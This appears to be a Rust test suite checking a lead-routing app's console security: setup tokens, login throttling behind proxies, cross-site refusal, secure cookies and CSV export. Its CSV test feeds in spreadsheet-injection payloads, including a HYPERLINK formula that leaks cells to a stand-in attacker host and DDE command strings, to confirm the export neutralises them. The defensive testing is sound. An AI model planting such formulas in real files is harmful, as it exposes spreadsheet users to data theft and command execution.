//! The security review of the console, portal and data protection, point by point: the
//! first-run setup needs the deployer's token and makes one admin however many posts race;
//! the CSV export cannot carry formulas; the login throttle counts the client behind
//! trusted proxies and locks nobody out for everyone; login-type forms refuse other sites;
//! HSTS and `__Host-` cookies behind https; the password change is throttled and renews
//! the session; `/metrics` needs its token; invitation links are never stored or listed;
//! old failed logins and ended sessions go.

use crate::support::console::{Console, Page};
use crate::support::{TestApp, SETUP_TOKEN};
use leadrouter_core::clock::ManualClock;
use serde_json::json;
use std::sync::Arc;

const EMAIL: &str = "ops@leadbiz.de";
const PASSWORD: &str = "correct horse battery staple";

fn setup_form<'a>(token: &'a str, email: &'a str) -> Vec<(&'a str, &'a str)> {
    vec![
        ("setup_token", token),
        ("email", email),
        ("password", PASSWORD),
        ("confirm", PASSWORD),
    ]
}

both_backends! {
    async fn setup_needs_the_setup_token_and_racing_setups_make_exactly_one_admin(db) {
        let app = TestApp::spawn(db).await;
        let mut c = Console::new(&app);
        // Without the token, or with a wrong one: refused beside its field, nobody made.
        for token in ["", "a-guess-at-the-setup-token"] {
            let r = c.post("/admin/setup", &setup_form(token, "attacker@evil.example")).await;
            assert_eq!(r.status, 422, "{}", r.body);
            assert!(r.error_beside("Setup token").is_some_and(|e| e.contains("setup token")), "{}", r.body);
        }
        // With the token, but posted by another site: refused.
        let r = c.post_with("/admin/setup", &setup_form(SETUP_TOKEN, "attacker@evil.example"),
            &[("sec-fetch-site", "cross-site")]).await;
        assert_eq!(r.status, 403);
        let r = c.post_with("/admin/setup", &setup_form(SETUP_TOKEN, "attacker@evil.example"),
            &[("origin", "https://evil.example")]).await;
        assert_eq!(r.status, 403);
        assert_eq!(app.store.count_admin_users().await.unwrap(), 0);

        // Eight setups at once, each with the token and its own e-mail: one admin.
        let posts = (0..8).map(|i| {
            let base = app.base.clone();
            async move {
                let email = format!("racer{i}@leadbiz.de");
                let r = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap()
                    .post(format!("{base}/admin/setup"))
                    .form(&setup_form(SETUP_TOKEN, &email))
                    .send().await.unwrap();
                r.status().as_u16()
            }
        });
        let statuses = futures::future::join_all(posts).await;
        assert_eq!(statuses.iter().filter(|s| **s == 303).count(), 1, "{statuses:?}");
        assert!(statuses.iter().all(|s| [303, 404].contains(s)), "{statuses:?}");
        assert_eq!(app.store.count_admin_users().await.unwrap(), 1);
        assert_eq!(c.get("/admin/setup").await.status, 404);
        app.stop().await;
    }
}

both_backends! {
    async fn the_leads_export_neutralises_every_formula_and_keeps_phones_readable(db) {
        let app = TestApp::spawn(db).await;
        let (_, token) = app.source(json!({"name": "Public form", "kind": "webhook"})).await;
        let payloads = [
            ("=HYPERLINK(\"https://evil.example/?leak=\"&F2&F3,\"Click\")", "+cmd|' /C calc'!A0", "=2+3"),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@source"),
        ];
        for (i, (first, last, source)) in payloads.iter().enumerate() {
            let (s, r) = app.send_lead(&token, json!({"first_name": first, "last_name": last, "source": source,
                "email": format!("csv{i}@example.com"), "phone": format!("+49 151 5555000{i}"), "country": "germany", "niche": "forex"})).await;
            assert_eq!(s, 202, "{r}");
        }
        let mut c = Console::new(&app);
        c.first_run(EMAIL, PASSWORD).await;
        let r = c.get("/admin/leads.csv").await;
        assert_eq!(r.status, 200);
        let mut reader = csv::Reader::from_reader(r.body.as_bytes());
        let mut cells = 0;
        for row in reader.records() {
            for cell in row.unwrap().iter() {
                cells += 1;
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell a spreadsheet runs: {cell:?}");
            }
        }
        assert!(cells > 20);
        for kept in ["'=HYPERLINK(", "'+cmd|", "'@SUM(1+1)", "'-2+3", "'+4915155550000", "'=2+3"] {
            assert!(r.body.contains(kept), "{kept} in\n{}", r.body);
        }
        app.stop().await;
    }
}

/// A login to the console as seen behind the proxy: from `client` (X-Forwarded-For).
async fn login_from(c: &mut Console, client: &str, email: &str, password: &str) -> Page {
    c.post_with(
        "/admin/login",
        &[("email", email), ("password", password)],
        &[("x-forwarded-for", client)],
    )
    .await
}

both_backends! {
    async fn behind_a_trusted_proxy_one_stranger_locks_out_neither_everyone_nor_the_operator(db) {
        // 2026-12-01 09:00 UTC; the test's requests come from 127.0.0.1, the "proxy".
        let clock = Arc::new(ManualClock::at(1_796_115_600_000));
        let app = TestApp::spawn_at(db, &[("LEADROUTER_TRUSTED_PROXIES", "127.0.0.1/32")], clock.clone()).await;
        Console::new(&app).first_run(EMAIL, PASSWORD).await;
        let (attacker, operator) = ("203.0.113.4", "198.51.100.7");
        let mut a = Console::new(&app);
        // Ten made-up accounts from one address: that address waits, nobody else does.
        for i in 0..10 {
            let r = login_from(&mut a, attacker, &format!("guess{i}@evil.example"), "x").await;
            assert_eq!(r.status, 200, "failure {i}");
        }
        assert_eq!(login_from(&mut a, attacker, EMAIL, PASSWORD).await.status, 429);
        let r = a.post_with("/portal/login", &[("email", "x@y.example"), ("password", "x")], &[("x-forwarded-for", attacker)]).await;
        assert_eq!(r.status, 429, "the portal counts the same address");
        let mut op = Console::new(&app);
        assert_eq!(login_from(&mut op, operator, EMAIL, PASSWORD).await.status, 303, "another client logs in");

        // Five wrong passwords for the operator's account from a fresh address: that address
        // waits for that account; the operator, from its own address, gets in.
        let mut b = Console::new(&app);
        for _ in 0..5 {
            assert_eq!(login_from(&mut b, "203.0.113.9", EMAIL, "wrong").await.status, 200);
        }
        let r = login_from(&mut b, "203.0.113.9", EMAIL, PASSWORD).await;
        assert_eq!(r.status, 429);
        assert!(r.body.contains("Try again in 1 minute"), "{}", r.body);
        let mut op2 = Console::new(&app);
        assert_eq!(login_from(&mut op2, operator, EMAIL, PASSWORD).await.status, 303);

        // The delay grows: a minute later one more wrong guess, then two minutes to wait.
        clock.advance(61_000);
        assert_eq!(login_from(&mut b, "203.0.113.9", EMAIL, "wrong").await.status, 200);
        let r = b.post_with("/admin/login", &[("email", EMAIL), ("password", PASSWORD)], &[("x-forwarded-for", "203.0.113.9")]).await;
        assert_eq!(r.status, 429);
        assert!(r.body.contains("Try again in 2 minutes"), "{}", r.body);

        // A forged X-Forwarded-For entry left of the proxy's is not believed.
        let r = login_from(&mut Console::new(&app), "198.51.100.7, 203.0.113.9", EMAIL, PASSWORD).await;
        assert_eq!(r.status, 429, "the right-most untrusted entry is the client");
        app.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_trusted_proxies_forwarded_addresses_are_ignored() {
    let app = TestApp::spawn(leadrouter_store::testing::TestDatabase::sqlite()).await;
    Console::new(&app).first_run(EMAIL, PASSWORD).await;
    let mut c = Console::new(&app);
    for i in 0..5 {
        let r = login_from(&mut c, &format!("203.0.113.{i}"), EMAIL, "wrong").await;
        assert_eq!(r.status, 200);
    }
    assert_eq!(
        login_from(&mut c, "203.0.113.99", EMAIL, PASSWORD)
            .await
            .status,
        429,
        "the peer is the client: a header cannot buy new attempts"
    );
    app.stop().await;
}

both_backends! {
    async fn login_forms_posted_by_another_site_are_refused(db) {
        let app = TestApp::spawn(db).await;
        let mut setup = Console::new(&app);
        setup.first_run(EMAIL, PASSWORD).await;
        let form = [("email", EMAIL), ("password", PASSWORD)];
        let mut c = Console::new(&app);
        for headers in [vec![("sec-fetch-site", "cross-site")], vec![("sec-fetch-site", "same-site")], vec![("origin", "http://localhost:18600")]] {
            let r = c.post_with("/admin/login", &form, &headers).await;
            assert_eq!(r.status, 403, "{headers:?}");
            assert!(c.cookie.is_none(), "no session from a foreign page");
            let r = c.post_with("/portal/login", &form, &headers).await;
            assert_eq!(r.status, 403, "{headers:?}");
            let r = c.post_with("/portal/accept/anything", &[("password", PASSWORD), ("confirm", PASSWORD)], &headers).await;
            assert_eq!(r.status, 403, "{headers:?}");
        }
        // The console's own page, as a browser says it, and a script without those headers.
        let host = app.base.trim_start_matches("http://").to_string();
        let own = format!("http://{host}");
        let r = c.post_with("/admin/login", &form, &[("sec-fetch-site", "same-origin"), ("origin", &own)]).await;
        assert_eq!(r.status, 303);
        let r = Console::new(&app).post_with("/admin/login", &form, &[("origin", &own)]).await;
        assert_eq!(r.status, 303);
        assert_eq!(Console::new(&app).login(EMAIL, PASSWORD).await.status, 303);
        app.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn behind_https_answers_carry_hsts_and_cookies_are_host_locked() {
    let app = TestApp::spawn_with(
        leadrouter_store::testing::TestDatabase::sqlite(),
        &[("LEADROUTER_PUBLIC_URL", "https://leads.example.test")],
    )
    .await;
    let r = reqwest::get(app.url("/admin/login")).await.unwrap();
    assert_eq!(
        r.headers()
            .get("strict-transport-security")
            .map(|v| v.to_str().unwrap()),
        Some("max-age=31536000")
    );
    let r = reqwest::get(app.url("/healthz")).await.unwrap();
    assert!(r.headers().contains_key("strict-transport-security"));
    let r = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
        .post(app.url("/admin/setup"))
        .form(&setup_form(SETUP_TOKEN, EMAIL))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 303);
    let cookie = r.headers()["set-cookie"].to_str().unwrap().to_string();
    assert!(cookie.starts_with("__Host-leadrouter_session="), "{cookie}");
    assert!(
        cookie.contains("Secure") && cookie.contains("Path=/") && !cookie.contains("Domain"),
        "{cookie}"
    );
    // The session works under that name.
    let page = reqwest::Client::new()
        .get(app.url("/admin"))
        .header("cookie", cookie.split(';').next().unwrap())
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), 200);
    app.stop().await;

    let plain = TestApp::spawn(leadrouter_store::testing::TestDatabase::sqlite()).await;
    let r = reqwest::get(plain.url("/admin/login")).await.unwrap();
    assert!(
        !r.headers().contains_key("strict-transport-security"),
        "not over plain http"
    );
    plain.stop().await;
}

both_backends! {
    async fn the_password_change_is_throttled_and_gives_the_browser_a_new_session(db) {
        let app = TestApp::spawn(db).await;
        let mut c = Console::new(&app);
        c.first_run(EMAIL, PASSWORD).await;
        let old_cookie = c.cookie.clone().unwrap();
        let change = |current: &str, new: &str, csrf: &str| -> Vec<(String, String)> {
            [("_csrf", csrf), ("current", current), ("password", new), ("confirm", new)]
                .iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
        };
        let post = |c: &mut Console, form: Vec<(String, String)>| {
            let mut c = std::mem::replace(c, Console::new(&app));
            async move {
                let f: Vec<(&str, &str)> = form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
                let r = c.post("/admin/settings/password", &f).await;
                (c, r)
            }
        };
        // Another browser of the operator changes the password: it gets a new session and a
        // new token; every session from before ends.
        let mut d = Console::new(&app);
        d.login(EMAIL, PASSWORD).await;
        let before = d.cookie.clone().unwrap();
        let csrf = d.csrf().await;
        let (mut d, r) = post(&mut d, change(PASSWORD, "a new long passphrase", &csrf)).await;
        assert_eq!(r.status, 200, "{}", r.body);
        let after = d.cookie.clone().unwrap();
        assert_ne!(before, after, "a new session id");
        let new_csrf = d.csrf().await;
        assert_ne!(new_csrf, csrf, "a new CSRF token");
        assert_eq!(d.get("/admin").await.status, 200);
        for stale in [before, old_cookie] {
            let mut e = Console::new(&app);
            e.cookie = Some(stale);
            assert_eq!(e.get("/admin").await.status, 303, "the sessions from before the change have ended");
        }
        // Guesses at the current password are throttled like logins.
        for _ in 0..5 {
            let (next, r) = post(&mut d, change("not my password", "another passphrase!", &new_csrf)).await;
            d = next;
            assert_eq!(r.status, 422);
            assert_eq!(r.error_beside("Current password").as_deref(), Some("is not your current password"));
        }
        let (_, r) = post(&mut d, change("a new long passphrase", "another passphrase!", &new_csrf)).await;
        assert_eq!(r.status, 429, "a stolen session cannot guess on: {}", r.body);
        assert_eq!(Console::new(&app).login(EMAIL, "a new long passphrase").await.status, 303, "unchanged");
        app.stop().await;
    }
}

both_backends! {
    async fn metrics_need_their_token_unless_made_public(db) {
        let app = TestApp::spawn(db).await;
        let r = reqwest::get(app.url("/metrics")).await.unwrap();
        assert_eq!(r.status(), 401, "closed by default");
        app.stop().await;
        let db = leadrouter_store::testing::TestDatabase::sqlite();
        let open = TestApp::spawn_with(db, &[("LEADROUTER_METRICS_PUBLIC", "1")]).await;
        assert_eq!(reqwest::get(open.url("/metrics")).await.unwrap().status(), 200);
        open.stop().await;
        let db = leadrouter_store::testing::TestDatabase::sqlite();
        let token = TestApp::spawn_with(db, &[("LEADROUTER_METRICS_TOKEN", "scrape-me")]).await;
        let r = reqwest::Client::new().get(token.url("/metrics")).header("authorization", "bearer scrape-me").send().await.unwrap();
        assert_eq!(r.status(), 200, "the scheme in any case");
        token.stop().await;
    }
}

both_backends! {
    async fn invitation_links_are_never_stored_or_listed_and_a_new_one_voids_the_old(db) {
        let app = TestApp::spawn(db).await;
        let (_, p) = app.post("/api/admin/partners", json!({"name": "Berlin Buyers", "country": "germany",
            "niche": "forex", "webhook_url": "https://fxpartners.com/api/leads"})).await;
        let pid = p["id"].as_i64().unwrap();
        let (s, invited) = app.post(&format!("/api/admin/partners/{pid}/users"), json!({"email": "buyer@berlin.example"})).await;
        assert_eq!(s, 201, "{invited}");
        let first = crate::portal::invitation_path(&invited);
        let token = first.trim_start_matches("/portal/accept/").to_string();
        // Shown to the operator who invited, this once; nowhere else.
        assert!(app.store.text_containing_for_tests(&token).await.is_empty(), "the link is not stored");
        let (_, mails) = app.get("/api/admin/notifications?kind=portal_invite").await;
        let text = mails["notifications"][0]["text"].as_str().unwrap();
        assert!(text.contains("[link hidden]") && !text.contains(&token), "{text}");
        let (_, users) = app.get(&format!("/api/admin/partners/{pid}/users")).await;
        assert!(!users.to_string().contains(&token));

        // A new invitation: a new link; the first opens nothing any more.
        let uid = invited["user"]["id"].as_i64().unwrap();
        let (s, again) = app.post(&format!("/api/admin/partners/{pid}/users/{uid}/reinvite"), json!({})).await;
        assert_eq!(s, 200, "{again}");
        let second = crate::portal::invitation_path(&again);
        assert_ne!(first, second);
        let mut c = Console::new(&app);
        assert_eq!(c.get(&first).await.status, 404, "the old link is void");
        assert_eq!(c.get(&second).await.status, 200);
        let r = c.post(&second, &[("password", "partner portal password"), ("confirm", "partner portal password")]).await;
        assert_eq!(r.status, 303);
        let (s, _) = app.post(&format!("/api/admin/partners/{pid}/users/{uid}/reinvite"), json!({})).await;
        assert_eq!(s, 404, "an accepted user is not invited again");
        app.stop().await;
    }
}

both_backends! {
    async fn old_failed_logins_and_ended_sessions_are_purged_and_a_typed_email_is_kept_short(db) {
        let clock = Arc::new(ManualClock::at(1_796_115_600_000));
        let app = TestApp::spawn_at(db, &[], clock.clone()).await;
        let mut c = Console::new(&app);
        c.first_run(EMAIL, PASSWORD).await;
        let huge = format!("{}@example.com", "a".repeat(60_000));
        let r = Console::new(&app).login(&huge, "wrong").await;
        assert_eq!(r.status, 200);
        assert!(app.store.text_containing_for_tests(&"a".repeat(300)).await.is_empty(), "not kept whole");
        assert_eq!(app.store.text_containing_for_tests(&"a".repeat(254)).await, vec!["login_failures.email".to_string()]);
        let mut other = Console::new(&app);
        other.login(EMAIL, PASSWORD).await;
        let csrf = other.csrf().await;
        other.post("/admin/logout", &[("_csrf", &csrf)]).await;
        // A day later: the failure is past the throttle's window, the first session idle.
        clock.advance(24 * 3_600_000);
        app.run_until_idle().await;
        assert!(app.store.text_containing_for_tests(&"a".repeat(254)).await.is_empty(), "the old failure is gone");
        assert_eq!(app.store.count_rows_for_tests("admin_sessions").await, 0, "ended sessions are gone");
        app.stop().await;
    }
}
